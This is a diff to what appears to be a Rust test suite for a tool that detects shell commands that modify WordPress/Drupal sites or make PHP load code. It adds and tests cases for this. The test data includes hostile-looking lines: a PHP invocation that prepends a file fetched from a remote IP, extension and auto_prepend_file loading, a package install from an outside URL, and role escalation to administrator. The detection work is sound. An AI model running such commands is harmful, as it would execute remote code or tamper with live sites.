@@ -213,6 +213,8 @@ fn a_site_is_changed_from_a_line_as_well() {
         "wp --ssh=web@shop.example/var/www option update admin_email a@b.example",
         "wp @prod user set-role 7 administrator",
         "wp plugin delete akismet",
+        "wp package install https://elsewhere.example/x.zip",
+        "wp --ssh=web@shop.example cache flush",
         "drush @live user:cancel bob",
     ] {
         assert!(changes(line), "{line}: {:#?}", inspect(line));
@@ -273,9 +275,13 @@ fn ones_own_login_at_a_host_is_for_that_host() {
 fn settings_of_php_are_told_from_code_that_it_loads() {
     let loads = |line: &str| inspect(line).found(FindingKind::LoadsCode);
     assert!(!loads("php -d memory_limit=1G vendor/bin/phpstan analyse src"));
-    for line in
-        ["php -d extension=/tmp/x.so a.php", "php -dauto_prepend_file=x.php a.php", "php -d disable_functions= a.php"]
-    {
+    for line in [
+        "php -d extension=/tmp/x.so a.php",
+        "php -dauto_prepend_file=x.php a.php",
+        "php -d disable_functions= a.php",
+        "php -nd auto_prepend_file=x a.php",
+        "php -ndauto_prepend_file=x a.php",
+    ] {
         assert!(loads(line), "{line}: {:#?}", inspect(line));
     }
     let line = "php -d allow_url_include=1 -d auto_prepend_file=http://203.0.113.5/r.txt vendor/bin/phpcs src";
